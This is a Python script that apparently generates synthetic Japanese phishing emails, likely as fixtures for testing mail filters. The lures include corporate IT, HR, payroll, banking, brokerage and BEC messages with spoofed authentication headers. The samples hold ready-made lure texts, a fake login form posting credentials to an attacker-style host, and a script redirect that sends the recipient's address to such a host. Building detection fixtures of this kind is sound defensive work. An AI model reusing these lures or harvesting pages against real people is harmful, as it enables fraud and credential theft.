# -*- coding: utf-8 -*-
# phishing batch 5: brandless corporate lures + remaining long-tail brands
from lib import *  # noqa

M(name='phishing/it-dept-mailbox-quota-display-name-spoof.eml', brand='（ブランドなし）社内情報システム部', cs='utf8', cte='b64', crlf=True,
  tricks='brandless IT-department mailbox quota lure; display name 情報システム部 from external look-alike domain kaisha-example-co.jp (recipient org kaisha-example.co.jp); M365 compauth softpass; CRLF',
  f=('情報システム部 ヘルプデスク', 'helpdesk@kaisha-example-co.jp'), to='sato.hiroshi@kaisha-example.co.jp', date='2025-06-30 08:02',
  subj='【情報システム部】メールボックス容量超過のお知らせ（至急）',
  auth=MS('45.94.31.101', 'kaisha-example-co.jp', 'helpdesk@kaisha-example-co.jp', 'pass', [], None, compauth='softpass', reason='201'),
  text='''社員各位

お使いのメールボックスの容量が上限（49.5GB/50GB）に達しています。
本日中に容量の拡張を行わない場合、メールの送受信が停止されます。

[[容量を拡張する（社内ポータル）|https://kaisha-example-co.jp/owa/quota/upgrade]]

情報システム部 ヘルプデスク
内線：2100''', html='auto')

M(name='phishing/hr-nenmatsu-chousei-sharepoint-lookalike.eml', brand='（ブランドなし）人事部 年末調整', cs='jis',
  tricks='HR 年末調整 lure; link to sharepoint-look-alike host kaisha-example.sharepoint.com.docs-view.cfd; ISO-2022-JP; external sender with internal-looking name',
  f=('人事部 給与厚生課', 'jinji@hr-portal-jp.com'), to='tanaka.yuko@kaisha-example.co.jp', date='2025-11-13 13:30',
  subj='【人事部】令和７年分 年末調整の電子申告について（期限：11/20）',
  auth=MS('5.188.206.40', 'hr-portal-jp.com', 'jinji@hr-portal-jp.com', 'pass', [('pass', 'hr-portal-jp.com', 'selector1')], ('none', 'none', 'hr-portal-jp.com'), compauth='softpass', reason='201'),
  text='''社員各位

令和７年分の年末調整は電子申告にて実施します。
以下の社内ポータルにサインインし、扶養控除等申告書・保険料控除申告書を提出してください。

https://kaisha-example.sharepoint.com.docs-view.cfd/sites/jinji/nenmatsu

提出期限：１１月２０日（木）

人事部　給与厚生課''')

M(name='phishing/keiri-invoice-reply-thread-password-zip.eml', brand='（ブランドなし）経理 請求書', cs='jis', crlf=True,
  tricks='Emotet-style reply hijack: "Re:" subject quoting a previous real-looking thread, sent from unrelated compromised domain; password-ZIP attachment with password in body; CRLF; ISO-2022-JP',
  f=('山口 正人', 'm.yamaguchi@marusan-shoji-example.co.jp'), to='keiri@kaisha-example.co.jp', date='2025-03-06 16:44',
  subj='Re: 2月分ご請求書の件',
  extra=['In-Reply-To: <20250228101122.4481@kaisha-example.co.jp>', 'X-Mailer: Microsoft Outlook 16.0'],
  auth=MS('202.181.103.27', 'smtp.marusan-shoji-example.co.jp', 'm.yamaguchi@marusan-shoji-example.co.jp', 'pass', [('pass', 'marusan-shoji-example.co.jp', 'default')], ('pass', 'none', 'marusan-shoji-example.co.jp')),
  text='''お世話になっております。

2月分の請求書を添付いたしますのでご確認ください。
パスワードは以下の通りです。

パスワード：Kz8841

よろしくお願いいたします。

-----Original Message-----
From: 経理部 <keiri@kaisha-example.co.jp>
Sent: Friday, February 28, 2025 10:11 AM
Subject: 2月分ご請求書の件

いつもお世話になっております。
2月分のご請求書の送付をお願いいたします。''',
  atts=[('seikyusho_202502.zip', 'application/zip', zip_encrypted('請求書_202502.xlsm', b'PK\x03\x04' + bytes(300), 'keiri'))])

M(name='phishing/onedrive-shared-document-lookalike-html-only.eml', brand='（ブランドなし）共有ドキュメント', cs='utf8', cte='b64',
  tricks='fake file-share notification (OneDrive-like layout) from compromised partner domain (auth pass); HTML-only; link to onedrive-share.docs-jp.com',
  f=('高橋 美咲（共有）', 'm.takahashi@kensetsu-example.co.jp'), to='purchasing@kaisha-example.co.jp', date='2025-08-05 10:58',
  subj='高橋 美咲 さんが「2025年度_見積書_改訂版.xlsx」を共有しました',
  auth=MS('40.107.222.55', 'JPN01-TYC-obe.outbound.protection.outlook.com', 'm.takahashi@kensetsu-example.co.jp', 'pass', [('pass', 'kensetsu-example.co.jp', 'selector1')], ('pass', 'none', 'kensetsu-example.co.jp')),
  html='''<html><body style="font-family:'Segoe UI',Meiryo,sans-serif">
<table width="500" style="border:1px solid #ddd;padding:20px"><tr><td>
<p style="font-size:16px">高橋 美咲 さんがファイルを共有しました</p>
<p style="border:1px solid #eee;padding:10px">&#128196; 2025年度_見積書_改訂版.xlsx</p>
<p>「ご確認をお願いいたします。」</p>
<p><a href="https://onedrive-share.docs-jp.com/:x:/g/personal/view?e=Yq3kP" style="background:#0f6cbd;color:#fff;padding:8px 20px;text-decoration:none">開く</a></p>
<p style="font-size:11px;color:#777">このリンクは purchasing@kaisha-example.co.jp に対してのみ有効です。</p>
</td></tr></table></body></html>
''')

M(name='phishing/kyuyo-meisai-html-attachment.eml', brand='（ブランドなし）給与明細', cs='utf8', cte='b64', split=True,
  tricks='payslip (給与明細) HTML attachment with embedded login form; subject encoded-word split mid-UTF-8-character; sender payroll-notice.net',
  f=('給与明細配信システム', 'noreply@payroll-notice.net'), to='ito.kenta@kaisha-example.co.jp', date='2025-12-25 09:00',
  subj='【給与明細】2025年12月分 給与明細・賞与明細のお知らせ',
  auth=MS('103.27.202.14', 'payroll-notice.net', 'noreply@payroll-notice.net', 'pass', [], None, compauth='none', reason='451'),
  text='''従業員各位

2025年12月分の給与明細および冬季賞与明細を発行しました。
添付ファイルを開き、社員番号とパスワードでログインして閲覧してください。

給与明細配信システム''',
  atts=[('kyuyo_meisai_202512.html', 'text/html', '''<html><head><meta charset="utf-8"><title>給与明細 閲覧</title></head><body>
<p>給与明細を閲覧するには、社内アカウントでサインインしてください。</p>
<form action="https://payroll-notice.net/s/auth" method="post">メールアドレス<input name="u"><br>パスワード<input type="password" name="p"><br><button>サインイン</button></form>
</body></html>''')])

M(name='phishing/voicemail-notification-html-attachment-sjis.eml', brand='（ブランドなし）留守番電話', cs='sjis', cte='qp', q='Q',
  tricks='voicemail notification with .htm attachment (script redirect); Shift_JIS quoted-printable; Q-encoded subject',
  f=('ボイスメール通知', 'voicemail@pbx-cloud-notice.com'), to='eigyo2@kaisha-example.co.jp', date='2026-02-10 15:22',
  subj='新しい留守番電話メッセージ (0:42) 03-5XXX-1234',
  auth=MS('193.149.176.40', 'pbx-cloud-notice.com', 'voicemail@pbx-cloud-notice.com', 'pass', [], None, compauth='none', reason='451'),
  text='''新しいボイスメッセージがあります。

発信者：03-5XXX-1234
長さ：0分42秒
受信日時：2026/02/10 15:21

添付ファイルを開いて再生してください。''',
  atts=[('VM_0210_1521.htm', 'text/html', '<html><head><meta charset="utf-8"><script>window.location.href="https://pbx-cloud-notice.com/play/?m="+btoa("eigyo2@kaisha-example.co.jp");</script></head><body>読み込み中...</body></html>')])

M(name='phishing/cloudsign-contract-lookalike.eml', brand='クラウドサイン（電子契約）', cs='utf8', cte='b64',
  tricks='e-contract signing request; look-alike cloudsign-jp.com (real cloudsign.jp); multipart/alternative; attacker SPF/DKIM pass',
  f=('クラウドサイン', 'noreply@cloudsign-jp.com'), to='somu@kaisha-example.co.jp', date='2025-09-30 17:10',
  subj='【クラウドサイン】株式会社東和システムズから「業務委託契約書（更新）」の確認依頼が届いています',
  auth=MS('185.241.208.44', 'mail.cloudsign-jp.com', 'noreply@cloudsign-jp.com', 'pass', [('pass', 'cloudsign-jp.com', 's1')], ('pass', 'none', 'cloudsign-jp.com')),
  text='''株式会社東和システムズ 契約担当 様から書類の確認依頼が届いています。

書類名：業務委託契約書（更新）
確認期限：2025/10/03

[[書類を確認する|https://cloudsign-jp.com/document/7a0e1c/confirm]]

クラウドサイン''', html='auto')

M(name='phishing/security-software-refund-callback.eml', brand='（ブランドなし）セキュリティソフト返金', cs='jis',
  tricks='refund call-back scam: fake auto-renewal invoice of a security software, only phone number to "cancel"; no links; ISO-2022-JP',
  f=('セキュリティサポートセンター', 'billing@pc-support-renew.com'), to='ojiisan.k@ybb.ne.jp', date='2025-04-24 10:33',
  subj='自動更新完了のお知らせ（請求番号 JP-778120）',
  auth=ISP('mx.ybb.ne.jp', '45.137.22.13', 'pc-support-renew.com', 'billing@pc-support-renew.com', 'pass', [], None),
  text='''お客様

ご利用中のセキュリティソフト（３年版・５台）の自動更新が完了しました。

請求番号：JP-778120
更新金額：３９，８００円
お支払い：ご登録のクレジットカード

ご解約・ご返金をご希望の場合は、２４時間以内に下記サポートセンターまでお電話ください。
返金には遠隔サポートによる手続きが必要です。

サポートセンター：050-5491-33XX''')

M(name='phishing/bec-bank-account-change-compromised-partner.eml', brand='（ブランドなし）取引先 振込先変更（BEC）', cs='utf8', cte='qp',
  tricks='business e-mail compromise: compromised real partner mailbox (all auth pass) asks to change payee bank account; no link; Reply-To to free mail',
  f=('株式会社ミナト精工 経理部 佐々木', 'sasaki@minato-seiko-example.co.jp'), to='shiharai@kaisha-example.co.jp', date='2026-05-19 11:05',
  extra=['Reply-To: minato.seiko.keiri@outlook.com'],
  subj='【ご連絡】振込先口座変更のお願い',
  auth=MS('210.188.245.3', 'mail.minato-seiko-example.co.jp', 'sasaki@minato-seiko-example.co.jp', 'pass', [('pass', 'minato-seiko-example.co.jp', 'default')], ('pass', 'none', 'minato-seiko-example.co.jp')),
  text='''株式会社カイシャ 経理ご担当者様

いつも大変お世話になっております。
株式会社ミナト精工 経理部の佐々木でございます。

弊社の取引銀行見直しに伴い、今月末のお支払い分より振込先口座を下記へ変更させていただきたく存じます。
急なお願いで恐縮ですが、ご対応のほどよろしくお願いいたします。

銀行名：GMOあおぞらネット銀行　法人第二営業部
口座番号：普通 1186620
口座名義：カ）ミナトセイコウ

なお、監査対応中のため、お電話でのご確認はご遠慮いただき、本メールにご返信ください。

株式会社ミナト精工　経理部　佐々木 恵''')

M(name='phishing/webmail-upgrade-chinese-mixed-brandless.eml', brand='（ブランドなし）ウェブメール', cs='utf8', cte='b64',
  tricks='brandless webmail upgrade; Japanese mixed with Simplified Chinese (邮箱, 升级, 请); link host is the recipient domain followed by attacker domain',
  f=('邮箱管理员 / メール管理者', 'admin@mail-upgrade-center.cn'), to='info@ryokan-example.jp', date='2025-07-18 04:18',
  subj='邮箱升级通知：メールアカウントの升级が必要です',
  auth=ISP('mx.ryokan-example.jp', '111.230.14.8', 'mail-upgrade-center.cn', 'admin@mail-upgrade-center.cn', 'none', [], None),
  text='''尊敬的用户 info@ryokan-example.jp：

您的邮箱はシステム升级のため、再认证が必要です。
请以下リンクをクリックして、升级を完成してください，否则邮箱は72時間後に停止されます。

https://ryokan-example.jp.mail-upgrade-center.cn/webmail/

邮箱管理员''')

M(name='phishing/mfa-reregister-qr-code-brandless.eml', brand='（ブランドなし）多要素認証', cs='utf8', cte='b64',
  tricks='QR code phishing (quishing): inline PNG in multipart/related asks to re-register MFA with phone; no clickable link; sender it-security-jp.com',
  f=('社内セキュリティ管理', 'security@it-security-jp.com'), to='kimura.saki@kaisha-example.co.jp', date='2025-10-14 09:20',
  subj='【要対応】多要素認証（MFA）の再登録期限：10月16日',
  auth=MS('91.240.118.50', 'it-security-jp.com', 'security@it-security-jp.com', 'pass', [], None, compauth='none', reason='451'),
  html='''<html><body style="font-family:Meiryo,sans-serif">
<p>社員各位</p>
<p>セキュリティポリシーの変更に伴い、多要素認証（MFA）の再登録が必要です。<br>
スマートフォンのカメラで以下のQRコードを読み取り、社内アカウントで再登録してください。</p>
<p><img src="cid:mfa-qr" alt="QR" width="200"></p>
<p>期限：2025年10月16日（木）17:00</p>
<p>情報セキュリティ管理室</p></body></html>
''', related=[('mfa-qr', 'image/png', png(100, 100, 'mfaqr'), 'mfa.png')])

M(name='phishing/etc-riyou-shoukai-lookalike.eml', brand='ETC利用照会サービス', cs='utf8', cte='b64', split=True,
  tricks='ETC利用照会サービス account-suspension lure (common 2025); look-alike etc-meisai-jp.com; subject split mid-character',
  f=('ETC利用照会サービス', 'info@etc-meisai-jp.com'), to='drive.takuya@gmail.com', date='2025-04-10 06:40',
  subj='【ETC利用照会サービス】重要なお知らせ：ご利用のアカウントが停止されました',
  auth=G('45.8.19.210', 'etc-meisai-jp.com', 'info@etc-meisai-jp.com', 'pass', [('pass', 'etc-meisai-jp.com', 'k1')], None),
  text='''ETC利用照会サービスをご利用いただきありがとうございます。

長期間ご利用が確認できないため、お客様のアカウントを停止いたしました。
引き続きご利用いただく場合は、以下からログインし、登録内容を更新してください。

[[ログインはこちら|https://etc-meisai-jp.com/etc/R?funccode=1013000000]]

ETC利用照会サービス事務局''', html='auto')

M(name='phishing/tokio-marine-contract-update-dmarc-fail.eml', brand='東京海上日動', cs='utf8', cte='b64',
  tricks='forged tokiomarine-nichido.co.jp From; SPF fail, DMARC fail p=none in AR (delivered); link tokio-mypage.com',
  f=('東京海上日動', 'info@tokiomarine-nichido.co.jp'), to='car.hoken.t@gmail.com', date='2025-11-07 12:25',
  subj='【東京海上日動】自動車保険 ご契約内容確認のお願い',
  auth=G('185.117.90.40', 'tokiomarine-nichido.co.jp', 'info@tokiomarine-nichido.co.jp', 'fail', [], ('fail', 'none', 'tokiomarine-nichido.co.jp')),
  text='''東京海上日動をご利用いただきありがとうございます。

自動車保険の更新に際し、ご契約内容の確認が完了しておりません。
確認がない場合、補償が中断される場合がございます。

[[ご契約内容を確認する|https://tokio-mypage.com/keiyaku/]]

東京海上日動火災保険株式会社''', html='auto')

M(name='phishing/sumishin-sbi-net-bank-smart-auth-hyphen.eml', brand='住信SBIネット銀行', cs='jis', crlf=True,
  tricks='スマート認証NEO re-registration lure; hyphenated look-alike netbk-sumishin.com (real netbk.co.jp); ISO-2022-JP; CRLF',
  f=('住信SBIネット銀行', 'info@netbk-sumishin.com'), to='net.bank.ai@nifty.com', date='2025-08-06 07:30',
  subj='【住信SBIネット銀行】スマート認証NEOの再登録のお願い',
  auth=ISP('mx03.nifty.com', '185.39.19.55', 'netbk-sumishin.com', 'info@netbk-sumishin.com', 'pass', [], None),
  text='''住信ＳＢＩネット銀行をご利用いただきありがとうございます。

スマート認証ＮＥＯのシステム更新に伴い、再登録が必要です。
期限までに再登録されない場合、お振込み等のお取引がご利用いただけなくなります。

再登録：https://netbk-sumishin.com/neo/reset

住信ＳＢＩネット銀行株式会社''')

M(name='phishing/gmo-coin-deposit-amazon-ses-relay.eml', brand='GMOコイン', cs='utf8', cte='qp',
  tricks='attacker sends via Amazon SES (SPF pass amazonses.com, DKIM pass amazonses + attacker domain) so auth looks clean; look-alike gmo-coin-jp.net',
  f=('GMOコイン', 'noreply@gmo-coin-jp.net'), to='fx.trader.jp@gmail.com', date='2026-06-18 03:33',
  subj='【GMOコイン】日本円出金依頼受付のお知らせ',
  auth=G('54.240.27.18', 'a27-18.smtp-out.ap-northeast-1.amazonses.com', '0106019a3c2f1d77-9c1e4a8b-aa51-4f0b-9d6e-2f1c77aa01de-000000@ap-northeast-1.amazonses.com', 'pass', [('pass', 'gmo-coin-jp.net', 'ses1'), ('pass', 'amazonses.com', '224i4yxa5dv7c2xz3womw6peuasteono')], ('pass', 'none', 'gmo-coin-jp.net')),
  extra=['Feedback-ID: ::1.ap-northeast-1.Xk2:AmazonSES', 'X-SES-Outgoing: 2026.06.18-54.240.27.18'],
  text='''GMOコインをご利用いただきありがとうございます。

以下の内容で日本円の出金依頼を受け付けました。

出金額：1,250,000円
出金先：ゆうちょ銀行 〇一八支店 普通 ****221

お心当たりのない場合は、以下から取消を行ってください。
[[出金を取り消す|https://gmo-coin-jp.net/withdraw/cancel?t=8812]]

GMOコイン株式会社''', html='auto')

M(name='phishing/kabucom-securities-brand-subdomain-euc.eml', brand='auカブコム証券', cs='euc', cte='8bit',
  tricks='EUC-JP; brand as subdomain kabu.com.acc-lock.icu; account lock lure',
  f=('auカブコム証券', 'info@acc-lock.icu'), to='kabu.nishida@yahoo.co.jp', date='2025-03-11 08:15',
  subj='【auカブコム証券】お取引制限のお知らせ',
  auth=ISP('mta-mx.mail.yahoo.co.jp', '89.110.96.51', 'acc-lock.icu', 'info@acc-lock.icu', 'pass', [], None),
  text='''auカブコム証券をご利用いただきありがとうございます。

お客様の口座で不審なログインが検出されたため、お取引を一時制限しております。
以下から本人確認を行ってください。

https://kabu.com.acc-lock.icu/members/verify

auカブコム証券株式会社''')

M(name='phishing/mineo-contract-renewal-sms-style.eml', brand='mineo', cs='utf8', cte='8bit',
  tricks='SMS-style text from free-mail (yahoo.co.jp) account; short invented domain mne0.cc (zero for o)',
  f='mineo_info_2026@yahoo.co.jp', to='eo.user.kobe@gmail.com', date='2026-01-27 18:30',
  subj='mineo',
  auth=G('182.22.12.110', 'mta-snd-e08.mail.yahoo.co.jp', 'mineo_info_2026@yahoo.co.jp', 'pass', [('pass', 'yahoo.co.jp', 'yj20110701')], ('pass', 'none', 'yahoo.co.jp')),
  text='''【mineo】ご利用料金のお支払いが確認できません。回線停止前にご確認ください https://mne0.cc/pay
''')

M(name='phishing/hulu-japan-payment-html-linktext.eml', brand='Hulu（日本）', cs='utf8', cte='b64',
  tricks='HTML link text "https://www.hulu.jp/account" while href is hulu-jp-account.com; payment failure; multipart/alternative',
  f=('Hulu', 'no-reply@hulu-jp-account.com'), to='drama.fan.emi@gmail.com', date='2025-05-15 22:10',
  subj='Hulu｜お支払い情報の更新が必要です',
  auth=G('194.36.190.21', 'hulu-jp-account.com', 'no-reply@hulu-jp-account.com', 'pass', [], None),
  text='''Huluをご利用いただきありがとうございます。

お支払いが承認されなかったため、お客様のアカウントは一時停止中です。
以下からお支払い情報を更新してください。

[[https://www.hulu.jp/account|https://hulu-jp-account.com/account/billing]]

HJホールディングス株式会社''', html='auto')

M(name='phishing/matsukiyo-point-survey-compromised-wordpress.eml', brand='マツモトキヨシ', cs='utf8', cte='b64',
  tricks='sender is a compromised WordPress site (php mailer, SPF pass for small domain, no DKIM); link path on the compromised site (/wp-content/..) hosting the phish',
  f=('マツキヨココカラ公式', 'wordpress@chiisana-cafe-example.jp'), to='drug.store.fan@gmail.com', date='2025-09-09 21:21',
  subj='【マツキヨココカラ】ポイント3,000円分プレゼントのご案内',
  extra=['X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)'],
  auth=G('183.90.253.9', 'sv8121.xserver.jp', 'wordpress@chiisana-cafe-example.jp', 'pass', [], ('none', 'none', 'chiisana-cafe-example.jp')),
  text='''マツキヨココカラ公式アプリをご利用いただきありがとうございます。

簡単なアンケートにご回答いただいた方に、もれなく3,000円分のポイントをプレゼントいたします。

[[アンケートに回答する|https://chiisana-cafe-example.jp/wp-content/uploads/2025/09/mk/index.html]]

マツキヨココカラ＆カンパニー''', html='auto')

M(name='phishing/vpoint-expiry-open-redirect.eml', brand='Vポイント', cs='utf8', cte='qp',
  tricks='open redirect through a legitimate-looking ad click tracker path (ad.doubleclick.net/ddm/clk/...;?https://...) to invented vpoint-kigen.com',
  f=('Vポイント', 'info@vpoint-kigen.com'), to='cafe.ryoko@gmail.com', date='2026-06-28 10:00',
  subj='【Vポイント】保有ポイントの有効期限のお知らせ',
  auth=G('91.92.245.88', 'vpoint-kigen.com', 'info@vpoint-kigen.com', 'pass', [], None),
  text='''いつもVポイントをご利用いただきありがとうございます。

お客様の保有ポイント（6,210pt）が6月30日に有効期限を迎えます。
以下から期限延長の手続きを行ってください。

[[ポイントを確認する|https://ad.doubleclick.net/ddm/clk/562110;gclid=1;?https://vpoint-kigen.com/mypage]]

CCCMKホールディングス株式会社''', html='auto')
